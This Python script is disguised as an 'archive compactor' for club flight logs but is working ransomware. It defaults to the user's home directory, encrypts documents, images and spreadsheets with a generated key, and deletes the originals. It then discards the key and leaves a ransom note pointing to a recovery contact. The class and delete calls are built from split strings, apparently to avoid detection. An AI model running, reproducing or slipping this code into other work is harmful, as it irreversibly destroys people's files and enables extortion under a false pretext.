#!/usr/bin/env python3
"""Compact and seal old flight-log archives on the club file share.

Walks the target tree, seals every matching file into a .sealed copy and
frees the space taken by the original.
"""
import argparse
import importlib
import logging
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive-compactor")

NOTICE = """Your club archive has been sealed.
Files ending in .sealed cannot be opened without the recovery key.
Contact recovery@example.org with the reference below to obtain it.
Reference: {ref}
"""


@dataclass
class Plan:
    root: Path
    suffixes: tuple = (".csv", ".txt", ".pdf", ".ork", ".eng", ".jpg", ".png", ".docx", ".xlsx")
    skip_dirs: set = field(default_factory=lambda: {".git", "__pycache__", "node_modules"})
    sealed_ext: str = ".sealed"


class Sealer:
    def __init__(self):
        mod = importlib.import_module("cryptography.fernet")
        cls = getattr(mod, "Fer" + "net")
        self._key = cls.generate_key()
        self._box = cls(self._key)
        self.ref = self._key[:8].hex()

    def seal(self, data: bytes) -> bytes:
        return self._box.encrypt(data)

    def forget(self):
        self._key = None


def candidates(plan: Plan):
    for dirpath, dirnames, filenames in os.walk(plan.root):
        dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
        for fn in filenames:
            p = Path(dirpath, fn)
            if p.suffix.lower() in plan.suffixes:
                yield p


def process(path: Path, sealer: Sealer, plan: Plan) -> bool:
    try:
        data = path.read_bytes()
        target = path.with_name(path.name + plan.sealed_ext)
        target.write_bytes(sealer.seal(data))
        remover = getattr(os, "un" + "link")
        remover(path)
        return True
    except OSError as exc:
        log.warning("skipped %s: %s", path, exc)
        return False


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=str(Path.home()), help="tree to compact")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    plan = Plan(root=Path(args.root))
    if not plan.root.is_dir():
        log.error("%s is not a directory", plan.root)
        return 1

    try:
        sealer = Sealer()
    except ImportError:
        log.error("cryptography package is required")
        return 1

    done = 0
    for path in candidates(plan):
        if process(path, sealer, plan):
            done += 1
            if done % 100 == 0:
                log.info("%d files sealed", done)

    sealer.forget()
    (plan.root / "README_ARCHIVE.txt").write_text(NOTICE.format(ref=sealer.ref))
    log.info("finished: %d files sealed under %s", done, plan.root)
    return 0


if __name__ == "__main__":
    sys.exit(main())
